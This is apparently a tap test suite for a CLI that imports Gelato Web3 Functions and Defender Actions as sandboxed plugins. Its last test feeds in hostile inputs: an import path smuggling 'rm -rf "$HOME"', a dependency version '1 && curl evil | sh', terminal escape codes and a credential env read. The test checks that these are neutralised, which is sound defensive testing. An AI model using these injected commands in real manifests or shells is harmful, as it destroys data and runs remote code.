import { chmodSync, existsSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { pluginEntrySchema } from '../../../../src/features/plugins/records/plugin.ts';
import { runTyped } from '../../../support/command.ts';

const FUNCTION = {
  'schema.json': JSON.stringify({
    ...{ web3FunctionVersion: '2.0.0', runtime: 'js-1.0', memory: 256, timeout: 30 },
    userArgs: { currency: 'string', oracle: 'string', steps: 'number[]' },
  }),
  'userArgs.json': '{"currency":"ether","steps":["1"]}',
  'storage.json': '{"lastPost":"5"}',
  '.env': 'SECRETS_PRICE_API=https://never.example',
  'helper.ts': `import abi from '../abi.json'; export const url = 'https://api.example.com:8443/price'; export { abi };`,
  'index.ts': `import { Web3Function, Web3FunctionContext } from '@gelatonetwork/web3-functions-sdk';
import { Contract } from '@ethersproject/contracts';
import ky from 'ky';
import { feed } from 'price-feed-client/lib';
import { readFileSync } from 'fs';
import { url } from './helper';
Web3Function.onRun(async ({ userArgs, storage, secrets, multiChainProvider }: Web3FunctionContext) => {
  const key = await secrets.get('PRICE_API');
  const other = multiChainProvider.chainId(137);
  return { canExec: false, message: await ky.get(url, { headers: { key } }).text() };
});`,
  'index.test.ts': 'never copied',
};

const ACTION = {
  'index.js': `const { Defender } = require('@openzeppelin/defender-sdk');
const { ethers } = require('ethers');
exports.handler = async function (event) {
  const { API_TOKEN, other: renamed } = event.secrets;
  const client = new Defender(event);
  if (event.secrets.PAUSED === process.env.WHEN) return;
  await client.keyValueStore.put('a', 'b');
  await client.relaySigner.replaceTransactionById('id', {});
  return (await client.monitor.list()).length;
};`,
};

const SERVERLESS = (trigger: string, more = '') => `service: mine
resources:
  actions:
    sweep-1:
      name: 'Sweep'
      path: './actions/sweep'
      relayer: \${self:resources.relayers.relayer-1}
      trigger:
${trigger}
      paused: ${more === 'paused' ? 'true' : 'false'}
      environment-variables:
        hello: 'world!'
  policies:
    policy-1:
      gas-price-cap: 1000
      whitelist-receivers:
        - '0x0f06aB75c7DD497981b75CD82F6566e3a5CAd8f2'
  relayers:
    relayer-1:
      name: 'Relayer 1'
      network: 'sepolia'
      policy: \${self:resources.policies.policy-1}
`;

const relayer = (id: string) => ({ id, network_type: 'evm', network: 'sepolia' });
const service = (relayers: object[] = [relayer('sepolia-1')], plugins: object[] = []) => ({
  'config.json': JSON.stringify({ relayers, signers: [], plugins }),
});
const entryIn = (dir: string, index = 0) =>
  (JSON.parse(readFileSync(join(dir, 'config/config.json'), 'utf8')) as { plugins: object[] }).plugins[index];

t.test('a Web3 Function becomes a plugin, and all that could not be mapped is said at once', async (t) => {
  const manifest = JSON.stringify({
    dependencies: { 'price-feed-client': '^1.2.3' },
  });
  const dir = t.testdir({
    config: service(),
    project: { 'package.json': manifest, functions: { 'my oracle': FUNCTION } },
  });
  const typed = ['import', 'project/functions/my oracle', '--cron', '0 8 * * 1-5', '--time-zone', 'Europe/Berlin'];
  const { code, said, complained } = await runTyped(dir, typed);
  t.equal(code, 0, complained);
  const entry = entryIn(dir);
  t.strictSame(entry, {
    ...{ id: 'my-oracle', path: 'my-oracle/index.ts', durable: true, timeout: 3600 },
    config: { relayer: 'sepolia-1', userArgs: { currency: 'ether', steps: ['1'] } },
    permissions: {
      relayers: { 'sepolia-1': ['read', 'send', 'rpc'] },
      ...{ kv: true, env: ['PRICE_API'], hosts: ['api.example.com:8443'] },
    },
    limits: { memory_mb: 256 },
    triggers: [{ name: 'schedule', cron: '0 8 * * 1-5', time_zone: 'Europe/Berlin' }],
  });
  t.ok(pluginEntrySchema.safeParse(entry).success);
  t.equal(readFileSync(join(dir, 'plugins/my-oracle/index.ts'), 'utf8'), FUNCTION['index.ts'], 'unchanged');
  t.ok(existsSync(join(dir, 'plugins/my-oracle/helper.ts')));
  for (const file of ['.env', 'index.test.ts']) t.notOk(existsSync(join(dir, 'plugins/my-oracle', file)), file);
  for (const line of [
    'Set in the environment, before the service starts again: PRICE_API',
    'npm install price-feed-client@^1.2.3',
    'msg.sender',
    'helper.ts imports "../abi.json", which is outside',
    'index.ts imports "fs", which plugins do not have',
    'userArgs.oracle (string) has no value',
    'userArgs.steps has to be number[]',
    'It reads chain 137',
    "storage.json has first values, and the plugin's storage begins empty: lastPost",
    'npx isolayer plugin check my-oracle',
  ])
    t.ok(said.includes(line), line);
  t.notMatch(said, 'never.example');
});

t.test('nothing is overwritten without being told', async (t) => {
  const dir = t.testdir({
    config: service(undefined, [{ id: 'other', path: 'other.ts' }]),
    oracle: FUNCTION,
    plugins: { oracle: { 'index.ts': 'mine', 'more.ts': 'mine too' } },
  });
  const refused = await runTyped(dir, ['import', 'oracle']);
  t.equal(refused.code, 1);
  t.match(refused.complained, /plugins\/oracle would be overwritten: say --overwrite/);
  t.equal(readFileSync(join(dir, 'plugins/oracle/index.ts'), 'utf8'), 'mine');
  t.equal((await runTyped(dir, ['import', 'oracle', '--id', 'second'])).code, 0);
  t.match(
    (await runTyped(dir, ['import', 'oracle', '--id', 'second'])).complained,
    'the entry "second" in config/config.json',
  );
  t.equal((await runTyped(dir, ['import', 'oracle', '--id', 'second', '--every', '5m', '--overwrite'])).code, 0);
  t.match(entryIn(dir, 0), { id: 'other', path: 'other.ts' });
  t.match(entryIn(dir, 1), { id: 'second', triggers: [{ name: 'schedule', every: '5m' }] });
  t.equal(entryIn(dir, 2), undefined);
});

t.test('an Action takes schedule, relayer policies and variables from its serverless.yml', async (t) => {
  const dir = t.testdir({
    config: service([relayer('a'), relayer('b')]),
    project: {
      'serverless.yml': SERVERLESS("        type: 'schedule'\n        frequency: 1500"),
      actions: { sweep: ACTION },
    },
  });
  const which = await runTyped(dir, ['import', 'project/actions/sweep']);
  t.match(which.complained, 'Name the relayer that it sends through: --relayer <id> (a, b)');
  const { said } = await runTyped(dir, ['import', 'project/actions/sweep', '--relayer', 'b']);
  t.strictSame(entryIn(dir), {
    ...{ id: 'sweep', path: 'sweep/plugin.cjs', durable: true, timeout: 3600, config: { relayer: 'b', name: 'Sweep' } },
    permissions: {
      relayers: {
        b: { methods: ['read', 'send', 'rpc'], recipients: ['0x0f06aB75c7DD497981b75CD82F6566e3a5CAd8f2'] },
      },
      ...{ kv: true, env: ['API_TOKEN', 'PAUSED', 'WHEN', 'hello', 'other'], hosts: [] },
    },
    triggers: [{ name: 'schedule', every: '1500m' }],
  });
  t.match(readFileSync(join(dir, 'plugins/sweep/plugin.cjs'), 'utf8'), `require("./index.js")`);
  for (const line of ['gas-price-cap (1000)', 'It replaces or cancels', 'It manages Defender itself']) {
    t.ok(said.includes(line), line);
  }
});

t.test('an Action of a webhook or a monitor gets a signed webhook', async (t) => {
  for (const type of ['webhook', 'sentinel']) {
    const yml = SERVERLESS(`        type: '${type}'`);
    const dir = t.testdir({ config: service(), project: { 'serverless.yml': yml, actions: { sweep: ACTION } } });
    const { said } = await runTyped(dir, ['import', 'project/actions/sweep', '--id', 'my-sweep']);
    const name = type === 'webhook' ? 'webhook' : 'monitor';
    const secret = { type: 'env', value: 'MY_SWEEP_SECRET' };
    t.match(entryIn(dir), { triggers: [{ name, on: 'webhook', secret }] });
    t.match(said, `POST /api/v1/hooks/my-sweep/${name}, signed with the secret in MY_SWEEP_SECRET`);
    t.match(said, /before the service starts again: .*MY_SWEEP_SECRET/);
    t.notMatch(said, 'spells out no host');
  }
  const yml = SERVERLESS("        type: 'schedule'\n        cron: '0 0 * * *'", 'paused');
  const dir = t.testdir({ config: service(), project: { 'serverless.yml': yml, actions: { sweep: ACTION } } });
  const { said } = await runTyped(dir, ['import', 'project/actions/sweep']);
  t.notMatch(entryIn(dir), { triggers: [] });
  t.match(said, 'It is paused, so no trigger was written');
});

t.test('what is no script, and where there is no configuration', async (t) => {
  const dir = t.testdir({ empty: { 'a.ts': 'export const a = 1;' }, oracle: FUNCTION });
  t.match((await runTyped(dir, ['import', 'empty'])).complained, /neither a Web3 Function .* nor an Action/);
  t.match((await runTyped(dir, ['import', 'nowhere'])).complained, 'There is no folder');
  t.match((await runTyped(dir, ['import', 'oracle'])).complained, 'Name the relayer');
  t.match(
    (await runTyped(dir, ['import', 'oracle', '--relayer', 'r', '--every', 'soon'])).complained,
    '--every: expected a time',
  );
  t.notOk(existsSync(join(dir, 'plugins')), 'nothing is written before all is known');
  const { code, said } = await runTyped(dir, ['import', 'oracle', '--relayer', 'r']);
  t.equal(code, 0);
  t.match(said, 'There is no config/config.json. The entry for its "plugins":');
});

// Threat: a folder from elsewhere gets more than its plugin: a file of the operator, a credential, a shell, a terminal.
t.test('what stands in the folder is not trusted', async (t) => {
  const own = { 'index.ts': 'mine' };
  const oracle = (files: Record<string, string>) => ({ ...FUNCTION, ...files });
  const action = { code: ACTION['index.js'], yml: SERVERLESS("        type: 'webhook'") };
  const refused: [folder: Exclude<Parameters<typeof t.testdir>[0], string | undefined>, text: RegExp][] = [
    [{ oracle: oracle({ 'userArgs.json': '["a"]' }) }, /userArgs\.json: expected an? object/],
    [{ oracle: oracle({ 'schema.json': '{"userArgs":{"a":1}}' }) }, /schema\.json: userArgs\.a: expected a string/],
    [{ oracle: oracle({ 'storage.json': '{,}' }) }, /storage\.json: is not valid JSON/],
    [
      {
        'serverless.yml': action.yml.replace(/whitelist-receivers:\n.*/, 'whitelist-receivers: all'),
        actions: { sweep: ACTION },
      },
      /serverless\.yml: whitelist-receivers: expected a list/,
    ],
    [{ 'serverless.yml': 'a: [', actions: { sweep: ACTION } }, /serverless\.yml is no YAML/],
    [{ actions: { sweep: { ...ACTION, 'plugin.cjs': '' } } }, /plugin\.cjs is in the way/],
  ];
  for (const [project, text] of refused) {
    const path = 'oracle' in project ? 'project/oracle' : 'project/actions/sweep';
    const dir = t.testdir({ config: service(), project, plugins: { taken: own } });
    const { code, complained } = await runTyped(dir, ['import', path, '--id', 'taken', '--overwrite']);
    t.equal(code, 1);
    t.match(complained, text);
    t.equal(
      readFileSync(join(dir, 'plugins/taken/index.ts'), 'utf8'),
      'mine',
      'nothing is deleted before all is known',
    );
    t.equal(entryIn(dir), undefined);
  }

  const code = `${FUNCTION['index.ts']}
    import a from 'evil; rm -rf "$HOME"/x'; import b from '--global'; import c from 'feed';
    const { API_KEY, KEYSTORE_PASSPHRASE, MINE } = process.env; fetch('https://*.com/');
    const shown = import('\u001b]0;title\u0007');`;
  const manifest = '{"dependencies":{"feed":"1 && curl evil | sh"}}';
  const signers = [{ id: 's', config: { passphrase: { type: 'env', value: 'KEYSTORE_PASSPHRASE' } } }];
  const dir = t.testdir({
    config: {
      'config.json': `{"relayers":[${JSON.stringify(relayer('a'))}],"signers":${JSON.stringify(signers)},"plugins":[{"id":"other","config":{"wei":123456789012345678901}}]}`,
    },
    oracle: oracle({ 'index.ts': code, 'package.json': manifest }),
  });
  const file = join(dir, 'config/config.json');
  chmodSync(file, 0o600);
  const { said, complained } = await runTyped(dir, ['import', 'oracle']);
  t.match(
    entryIn(dir, 1),
    { permissions: { env: ['MINE', 'PRICE_API'], hosts: ['api.example.com:8443'] } },
    complained,
  );
  t.match(said, /^- Install .*: npm install feed price-feed-client$/m);
  t.ok(said.includes('It reads KEYSTORE_PASSPHRASE, a credential of the service'));
  t.notMatch(said, '\u001b');
  t.match(entryIn(dir), { config: { wei: '123456789012345678901' } }, 'an amount of the operator is what it was');
  t.equal(statSync(file).mode & 0o777, 0o600);
  const itself = await runTyped(dir, ['import', 'plugins/oracle', '--overwrite']);
  t.match(itself.complained, /lie in each other: move the script out first/);
  t.ok(existsSync(join(dir, 'plugins/oracle/index.ts')));
});
